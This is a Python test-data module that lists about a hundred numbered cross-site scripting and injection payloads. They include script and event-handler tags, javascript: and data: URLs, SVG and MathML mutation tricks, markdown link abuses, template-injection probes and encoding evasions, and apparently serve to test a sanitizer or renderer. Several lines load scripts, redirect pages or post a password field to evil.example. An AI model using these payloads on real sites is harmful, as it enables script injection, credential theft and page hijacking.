"""Texts that want to be more than text: what people try to get onto a page that others read.

Every one holds `{n}`, its number, so that a test can find it again, and stands on one line.
"""

from __future__ import annotations

from typing import Final

_SHAPES: Final = r"""
<script>alert({n})</script>
</title><script>alert({n})</script>
</textarea><script>alert({n})</script>
</style><script>alert({n})</script>
</option></select><script>alert({n})</script>
</pre></div></main></body></html><script>alert({n})</script>
<SCRIPT SRC=//evil.example/{n}.js></SCRIPT>
<scr<script>ipt>alert({n})</scr</script>ipt>
<script/x>alert({n})</script/x>
<script>alert({n})//
<<script>alert({n});//<</script>
<img src=x onerror=alert({n})>
<img src=x onerror=alert({n})//
<img/src=x/onerror=alert({n})>
<IMG SRC="jav&#x09;ascript:alert({n});">
<img src="x` `<script>alert({n})</script>"` `>
<svg onload=alert({n})>
<svg><script>alert({n})</script></svg>
<svg><a xlink:href="javascript:alert({n})"><text y=20>{n}</text></a></svg>
<svg><animate onbegin=alert({n}) attributeName=x></svg>
<math><mi xlink:href="data:text/html,<script>alert({n})</script>">{n}</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert({n})></style></mglyph></table>
<style>@import "//evil.example/{n}.css";</style>
<style>body{display:none}/*{n}*/</style>
<link rel=stylesheet href=//evil.example/{n}.css>
<div style="position:fixed;inset:0;background:url(//evil.example/{n})">{n}</div>
<p style="width:expression(alert({n}))">{n}</p>
<iframe src="javascript:alert({n})"></iframe>
<iframe srcdoc="<script>alert({n})</script>"></iframe>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgpPC9zY3JpcHQ+" title={n}></object>
<embed src="javascript:alert({n})">
<base href="//evil.example/{n}/">
<meta http-equiv=refresh content="0;url=//evil.example/{n}">
<form action="//evil.example/{n}"><input name=password></form>
<button formaction="javascript:alert({n})">{n}</button>
<input autofocus onfocus=alert({n})>
<details open ontoggle=alert({n})>{n}</details>
<video><source onerror=alert({n})></video>
<audio src=x onerror=alert({n})>
<body onload=alert({n})>
<marquee onstart=alert({n})>{n}</marquee>
<template><script>alert({n})</script></template>
<noscript><p title="</noscript><img src=x onerror=alert({n})>"></noscript>
<a href="javascript:alert({n})">{n}</a>
<a href="JaVaScRiPt:alert({n})">{n}</a>
<a href="java&#10;script:alert({n})">{n}</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert({n})">{n}</a>
<a href=" javascript:alert({n})">{n}</a>
<a href="data:text/html,<script>alert({n})</script>">{n}</a>
<a href="vbscript:msgbox({n})">{n}</a>
<a id=content name=body class=errornote onclick=alert({n}) href=#>{n}</a>
" onmouseover="alert({n})" x="
' onmouseover='alert({n})' x='
"><script>alert({n})</script>
'><img src=x onerror=alert({n})>
` onmouseover=alert({n}) x=`
" autofocus onfocus=alert({n}) "
x" style="background:url(javascript:alert({n}))
--><script>alert({n})</script><!--
<!--{n}
<!--><img src=x onerror=alert({n})>-->
<!--[if gte IE 4]><script>alert({n})</script><![endif]-->
<![CDATA[<script>alert({n})</script>]]>
<?xml-stylesheet href="javascript:alert({n})"?>
</li></ul></section></main>{n}
<table><tr><td>{n}
</div></div></div></div>{n}
{{7919*{n}}} {% debug %} {# {n}
${7919*{n}} #{7919*{n}} %= 7919*{n} %
{% load static %}{% include "admin/login.html" %}{n}
[{n}](javascript:alert({n}))
[{n}](JAVASCRIPT:alert({n}))
[{n}](java%0ascript:alert({n}))
[{n}](&#x6A;avascript:alert({n}))
[{n}](javascript&colon;alert({n}))
[{n}](<java script:alert({n})>)
[{n}](data:text/html;base64,PHNjcmlwdD5hbGVydCgpPC9zY3JpcHQ+)
[{n}](vbscript:msgbox({n}))
[{n}](file:///etc/passwd)
[{n}](//evil.example/" onmouseover="alert({n}))
[{n}](https://evil.example/ '" onmouseover="alert({n})')
[{n}]( https://evil.example/ "<script>alert({n})</script>")
![{n}](javascript:alert({n}))
![{n}](https://evil.example/{n}.png)
![{n}](x "onerror=alert({n})")
[![{n}](x)](javascript:alert({n}))
[[[[{n}](javascript:alert({n}))](x)](y)](z)
[{n}][bad] [bad]: javascript:alert({n})
<javascript:alert({n})>
<data:text/html,{n}>
<https://evil.example/"onmouseover=alert({n})>
**<b onclick=alert({n})>{n}**</b>
`<script>alert({n})</script>`
``` <script>alert({n})</script>
\<script>alert({n})\</script>
&lt;script&gt;alert({n})&lt;/script&gt;
&#60;script&#62;alert({n})&#60;/script&#62;
<scrıpt>alert({n})</scrıpt>
＜script＞alert({n})＜/script＞
‮<script>alert({n})</script>‬
<script​>alert({n})</script>
<a href="javas​cript:alert({n})">{n}</a>
%3Cscript%3Ealert({n})%3C/script%3E
+ADw-script+AD4-alert({n})+ADw-/script+AD4-
"""

VECTORS: Final = tuple(
    shape.replace("{n}", str(number))
    for number, shape in enumerate(filter(None, _SHAPES.split("\n")), 1001)
)
